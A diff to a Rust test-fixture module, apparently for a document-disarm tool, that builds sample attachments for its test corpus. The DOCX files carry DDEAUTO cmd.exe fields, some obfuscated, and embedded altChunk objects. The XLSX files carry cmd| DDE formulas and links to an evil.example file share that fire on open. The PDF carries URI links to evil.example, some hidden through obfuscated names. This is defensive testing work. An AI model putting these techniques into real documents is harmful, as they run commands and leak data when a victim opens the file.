@@ -159,6 +159,303 @@ pub fn zip_bomb_docx() -> Vec<u8> {
     ])
 }
 
+const XML_DECL: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>"#;
+const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const W_NS: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;
+const X_NS: &str = r#"xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships""#;
+const WORD_MAIN: &str =
+    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
+const WORD_HEADER: &str =
+    "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";
+const EXCEL_MAIN: &str =
+    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
+const EXCEL_SHEET: &str =
+    "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
+
+/// `[Content_Types].xml` with the `rels` and `xml` defaults, the given defaults (extension,
+/// type) and overrides (part name, type).
+fn content_types(defaults: &[(&str, &str)], overrides: &[(&str, &str)]) -> String {
+    let mut s = format!(
+        r#"{XML_DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>"#
+    );
+    for (ext, t) in defaults {
+        s.push_str(&format!(
+            r#"<Default Extension="{ext}" ContentType="{t}"/>"#
+        ));
+    }
+    for (part, t) in overrides {
+        s.push_str(&format!(
+            r#"<Override PartName="{part}" ContentType="{t}"/>"#
+        ));
+    }
+    s.push_str("</Types>");
+    s
+}
+
+/// A relationship part: (id, type, target); a target with `://` is external.
+fn relationships(list: &[(&str, &str, &str)]) -> String {
+    let mut s = format!(
+        r#"{XML_DECL}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"#
+    );
+    for (id, kind, target) in list {
+        let mode = if target.contains("://") {
+            r#" TargetMode="External""#
+        } else {
+            ""
+        };
+        s.push_str(&format!(
+            r#"<Relationship Id="{id}" Type="{kind}" Target="{target}"{mode}/>"#
+        ));
+    }
+    s.push_str("</Relationships>");
+    s
+}
+
+fn payload() -> String {
+    String::from_utf8_lossy(PAYLOAD).into_owned()
+}
+
+/// A .docx that imports an MHT document (an HTML page with an OLE object) into its body and an
+/// RTF document (an embedded object) into its header through `w:altChunk`; the MHT part's type
+/// is a default for `.mht`, the RTF part's an override.
+pub fn docx_alt_chunk() -> Vec<u8> {
+    let p = payload();
+    let types = content_types(
+        &[("mht", "message/rfc822")],
+        &[
+            ("/word/document.xml", WORD_MAIN),
+            ("/word/header1.xml", WORD_HEADER),
+            ("/word/chunk2.rtf", "application/rtf"),
+        ],
+    );
+    let root = relationships(&[(
+        "rId1",
+        &format!("{REL}/officeDocument"),
+        "word/document.xml",
+    )]);
+    let document = format!(
+        r#"{XML_DECL}<w:document {W_NS}><w:body><w:p><w:r><w:t>令和8年度 事業計画</w:t></w:r></w:p><w:altChunk r:id="rId2"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk><w:p><w:r><w:t>以上</w:t></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="rId3"/></w:sectPr></w:body></w:document>"#
+    );
+    let document_rels = relationships(&[
+        ("rId2", &format!("{REL}/aFChunk"), "afchunk1.mht"),
+        ("rId3", &format!("{REL}/header"), "header1.xml"),
+    ]);
+    let header = format!(
+        r#"{XML_DECL}<w:hdr {W_NS}><w:altChunk r:id="rId1"/><w:p><w:r><w:t>庁内限り</w:t></w:r></w:p></w:hdr>"#
+    );
+    let header_rels = relationships(&[("rId1", &format!("{REL}/aFChunk"), "chunk2.rtf")]);
+    let mht = format!(
+        "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><body><object classid=\"clsid:00000000-0000-0000-0000-000000000000\" data=\"{p}\"></object></body></html>\r\n"
+    );
+    let rtf = format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata 01050000{p}}}}}}}");
+    zip_of(&[
+        ("[Content_Types].xml", types.as_bytes()),
+        ("_rels/.rels", root.as_bytes()),
+        ("word/document.xml", document.as_bytes()),
+        ("word/_rels/document.xml.rels", document_rels.as_bytes()),
+        ("word/header1.xml", header.as_bytes()),
+        ("word/_rels/header1.xml.rels", header_rels.as_bytes()),
+        ("word/afchunk1.mht", mht.as_bytes()),
+        ("word/chunk2.rtf", rtf.as_bytes()),
+    ])
+}
+
+fn w_run(text: &str) -> String {
+    format!("<w:r><w:t>{text}</w:t></w:r>")
+}
+
+fn w_instr(text: &str) -> String {
+    format!(r#"<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>"#)
+}
+
+fn w_char(kind: &str) -> String {
+    format!(r#"<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>"#)
+}
+
+/// A .docx with DDE fields whose results read 結果A to 結果D: a simple field, a complex field
+/// whose instruction is split over two runs, one whose instruction a nested QUOTE field spells,
+/// and a simple field in the header; and a PAGE field and a MERGEFIELD, which stay.
+pub fn docx_dde_fields() -> Vec<u8> {
+    let p = payload();
+    let cmd = format!(r#"c:\\windows\\system32\\cmd.exe &quot;/k {p}&quot;"#);
+    let types = content_types(
+        &[],
+        &[
+            ("/word/document.xml", WORD_MAIN),
+            ("/word/header1.xml", WORD_HEADER),
+        ],
+    );
+    let root = relationships(&[(
+        "rId1",
+        &format!("{REL}/officeDocument"),
+        "word/document.xml",
+    )]);
+    let simple = format!(
+        r#"<w:p><w:fldSimple w:instr=" DDEAUTO {cmd} ">{}</w:fldSimple></w:p>"#,
+        w_run("結果A")
+    );
+    let split = format!(
+        "<w:p>{}{}{}{}{}{}</w:p>",
+        w_char("begin"),
+        w_instr(" DD"),
+        w_instr(&format!("EAUTO {cmd} ")),
+        w_char("separate"),
+        w_run("結果B"),
+        w_char("end")
+    );
+    let quoted = format!(
+        "<w:p>{}{}{}{}{}{}{}{}{}{}</w:p>",
+        w_char("begin"),
+        w_char("begin"),
+        w_instr("QUOTE 68 68 69 65 85 84 79"),
+        w_char("separate"),
+        w_run("DDEAUTO"),
+        w_char("end"),
+        w_instr(&format!(" {cmd} ")),
+        w_char("separate"),
+        w_run("結果C"),
+        w_char("end")
+    );
+    let ordinary = format!(
+        r#"<w:p>{}{}{}{}{}<w:fldSimple w:instr=" MERGEFIELD 氏名 ">{}</w:fldSimple></w:p>"#,
+        w_char("begin"),
+        w_instr(" PAGE "),
+        w_char("separate"),
+        w_run("1"),
+        w_char("end"),
+        w_run("«氏名»")
+    );
+    let document = format!(
+        r#"{XML_DECL}<w:document {W_NS}><w:body>{simple}{split}{quoted}{ordinary}<w:sectPr><w:headerReference w:type="default" r:id="rId2"/></w:sectPr></w:body></w:document>"#
+    );
+    let document_rels = relationships(&[("rId2", &format!("{REL}/header"), "header1.xml")]);
+    let header = format!(
+        r#"{XML_DECL}<w:hdr {W_NS}><w:p><w:fldSimple w:instr="DDE {cmd}">{}</w:fldSimple></w:p></w:hdr>"#,
+        w_run("結果D")
+    );
+    zip_of(&[
+        ("[Content_Types].xml", types.as_bytes()),
+        ("_rels/.rels", root.as_bytes()),
+        ("word/document.xml", document.as_bytes()),
+        ("word/_rels/document.xml.rels", document_rels.as_bytes()),
+        ("word/header1.xml", header.as_bytes()),
+    ])
+}
+
+/// An .xlsx with a DDE link (`externalLink1`), a link to another workbook on a file share
+/// (`externalLink2`), cell formulas that use them (`cmd|'…'!A0`, `[1]!…` shared by two cells,
+/// `[2]Sheet1!A1`), a defined name that runs DDE, and a calculation chain; and an ordinary
+/// formula, a string holding `|` and a defined name, which stay.
+pub fn xlsx_dde_links() -> Vec<u8> {
+    let p = payload();
+    let types = content_types(
+        &[],
+        &[
+            ("/xl/workbook.xml", EXCEL_MAIN),
+            ("/xl/worksheets/sheet1.xml", EXCEL_SHEET),
+            (
+                "/xl/externalLinks/externalLink1.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
+            ),
+            (
+                "/xl/externalLinks/externalLink2.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
+            ),
+            (
+                "/xl/calcChain.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml",
+            ),
+        ],
+    );
+    let root = relationships(&[("rId1", &format!("{REL}/officeDocument"), "xl/workbook.xml")]);
+    let workbook = format!(
+        r#"{XML_DECL}<workbook {X_NS}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/><externalReference r:id="rId3"/></externalReferences><definedNames><definedName name="run">cmd|'/c {p}'!A0</definedName><definedName name="total">Sheet1!$C$1</definedName></definedNames></workbook>"#
+    );
+    let workbook_rels = relationships(&[
+        ("rId1", &format!("{REL}/worksheet"), "worksheets/sheet1.xml"),
+        (
+            "rId2",
+            &format!("{REL}/externalLink"),
+            "externalLinks/externalLink1.xml",
+        ),
+        (
+            "rId3",
+            &format!("{REL}/externalLink"),
+            "externalLinks/externalLink2.xml",
+        ),
+        ("rId4", &format!("{REL}/calcChain"), "calcChain.xml"),
+    ]);
+    let sheet = format!(
+        r#"{XML_DECL}<worksheet {X_NS}><sheetData><row r="1"><c r="A1"><f>cmd|' /c {p}'!A0</f><v>0</v></c><c r="B1"><f>[2]Sheet1!A1</f><v>5</v></c><c r="C1"><f>SUM(1,2)</f><v>3</v></c><c r="D1" t="str"><f>"a|b"</f><v>a|b</v></c></row><row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">[1]!'!A0'</f><v>0</v></c></row><row r="3"><c r="A3"><f t="shared" si="0"/><v>0</v></c></row></sheetData></worksheet>"#
+    );
+    let dde = format!(
+        r#"{XML_DECL}<externalLink {X_NS}><ddeLink ddeService="cmd" ddeTopic="/c {p}"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>"#
+    );
+    let book = format!(
+        r#"{XML_DECL}<externalLink {X_NS}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>"#
+    );
+    let book_rels = relationships(&[(
+        "rId1",
+        &format!("{REL}/externalLinkPath"),
+        "file://evil.example/share/book.xlsx",
+    )]);
+    let chain = format!(
+        r#"{XML_DECL}<calcChain {X_NS}><c r="A1" i="1"/><c r="B1"/><c r="C1"/><c r="A2"/><c r="A3"/></calcChain>"#
+    );
+    zip_of(&[
+        ("[Content_Types].xml", types.as_bytes()),
+        ("_rels/.rels", root.as_bytes()),
+        ("xl/workbook.xml", workbook.as_bytes()),
+        ("xl/_rels/workbook.xml.rels", workbook_rels.as_bytes()),
+        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
+        ("xl/externalLinks/externalLink1.xml", dde.as_bytes()),
+        ("xl/externalLinks/externalLink2.xml", book.as_bytes()),
+        (
+            "xl/externalLinks/_rels/externalLink2.xml.rels",
+            book_rels.as_bytes(),
+        ),
+        ("xl/calcChain.xml", chain.as_bytes()),
+    ])
+}
+
+/// An .xlsx with a data connection that queries a database on a file share when it opens.
+pub fn xlsx_connections() -> Vec<u8> {
+    let p = payload();
+    let types = content_types(
+        &[],
+        &[
+            ("/xl/workbook.xml", EXCEL_MAIN),
+            ("/xl/worksheets/sheet1.xml", EXCEL_SHEET),
+            (
+                "/xl/connections.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
+            ),
+        ],
+    );
+    let root = relationships(&[("rId1", &format!("{REL}/officeDocument"), "xl/workbook.xml")]);
+    let workbook = format!(
+        r#"{XML_DECL}<workbook {X_NS}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#
+    );
+    let workbook_rels = relationships(&[
+        ("rId1", &format!("{REL}/worksheet"), "worksheets/sheet1.xml"),
+        ("rId2", &format!("{REL}/connections"), "connections.xml"),
+    ]);
+    let sheet = format!(
+        r#"{XML_DECL}<worksheet {X_NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>売上</t></is></c></row></sheetData></worksheet>"#
+    );
+    let connections = format!(
+        r#"{XML_DECL}<connections {X_NS}><connection id="1" name="売上" type="1" refreshOnLoad="1" background="1" saveData="1"><dbPr connection="DRIVER={{Microsoft Access Driver (*.mdb)}};DBQ=\\evil.example\share\{p}.mdb" command="SELECT * FROM t"/></connection></connections>"#
+    );
+    zip_of(&[
+        ("[Content_Types].xml", types.as_bytes()),
+        ("_rels/.rels", root.as_bytes()),
+        ("xl/workbook.xml", workbook.as_bytes()),
+        ("xl/_rels/workbook.xml.rels", workbook_rels.as_bytes()),
+        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
+        ("xl/connections.xml", connections.as_bytes()),
+    ])
+}
+
 /// A PDF file from its objects, with a correct cross-reference table.
 pub fn pdf_of(objects: &[&[u8]], trailer_extra: &str) -> Vec<u8> {
     let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
@@ -186,8 +483,7 @@ pub fn pdf_of(objects: &[&[u8]], trailer_extra: &str) -> Vec<u8> {
     out
 }
 
-/// A one-page PDF with every kind of active content the disarm removes, and a plain link
-/// annotation that it keeps.
+/// A one-page PDF with every kind of active content the disarm removes, a web link among them.
 pub fn pdf_active() -> Vec<u8> {
     let content = b"BT /F1 12 Tf 20 100 Td (Hello mamori) Tj ET";
     let content_obj = [
@@ -226,6 +522,47 @@ pub fn pdf_active() -> Vec<u8> {
             b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.city.example.lg.jp/) >> >>",
             b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 20 20] /FS 9 0 R >>",
             &exe_obj,
+        ],
+        "",
+    )
+}
+
+/// A one-page PDF whose links open web addresses: a link annotation with a URI action written
+/// in it, one whose action is an object of its own (its `/S` spelt `/U#52I`), an internal link
+/// whose action continues (`/Next`) to a URI, and an outline item whose `/S` refers to a name
+/// object. The internal link's own `GoTo` is kept.
+pub fn pdf_uri_links() -> Vec<u8> {
+    let content = b"BT /F1 12 Tf 20 100 Td (Hello mamori) Tj ET";
+    let content_obj = [
+        format!("<< /Length {} >>\nstream\n", content.len()).as_bytes(),
+        content,
+        b"\nendstream",
+    ]
+    .concat();
+    let payload = String::from_utf8_lossy(PAYLOAD);
+    let inline = format!(
+        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://evil.example/{payload}/inline) >> >>"
+    );
+    let next = format!(
+        "<< /Type /Annot /Subtype /Link /Rect [20 20 30 30] /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/{payload}/next) >> >> >>"
+    );
+    let outline = format!(
+        "<< /Title (Portal) /Parent 8 0 R /A << /S 11 0 R /URI (https://evil.example/{payload}/outline) >> >>"
+    );
+    let indirect = format!("<< /S /U#52I /URI (https://evil.example/{payload}/indirect) >>");
+    pdf_of(
+        &[
+            b"<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [5 0 R 6 0 R 7 0 R] >>",
+            &content_obj,
+            inline.as_bytes(),
+            b"<< /Type /Annot /Subtype /Link /Rect [10 10 20 20] /A 10 0 R >>",
+            next.as_bytes(),
+            b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>",
+            outline.as_bytes(),
+            indirect.as_bytes(),
+            b"/URI",
         ],
         "",
     )
@@ -342,6 +679,57 @@ pub fn corpus_inputs() -> Vec<(&'static str, Vec<u8>)> {
         (
             "disarm_pdf_active_content",
             mail("pdf", &[("form.pdf", "application/pdf", pdf_active())]),
+        ),
+        (
+            "disarm_pdf_uri_links",
+            mail(
+                "pdf-links",
+                &[("links.pdf", "application/pdf", pdf_uri_links())],
+            ),
+        ),
+        (
+            "disarm_docx_alt_chunk",
+            mail(
+                "altchunk",
+                &[(
+                    "plan.docx",
+                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+                    docx_alt_chunk(),
+                )],
+            ),
+        ),
+        (
+            "disarm_docx_dde_fields",
+            mail(
+                "dde-fields",
+                &[(
+                    "notice.docx",
+                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+                    docx_dde_fields(),
+                )],
+            ),
+        ),
+        (
+            "disarm_xlsx_dde_links",
+            mail(
+                "dde-links",
+                &[(
+                    "budget.xlsx",
+                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+                    xlsx_dde_links(),
+                )],
+            ),
+        ),
+        (
+            "disarm_xlsx_connections",
+            mail(
+                "connections",
+                &[(
+                    "sales.xlsx",
+                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+                    xlsx_connections(),
+                )],
+            ),
         ),
         (
             "disarm_pdf_encrypted",
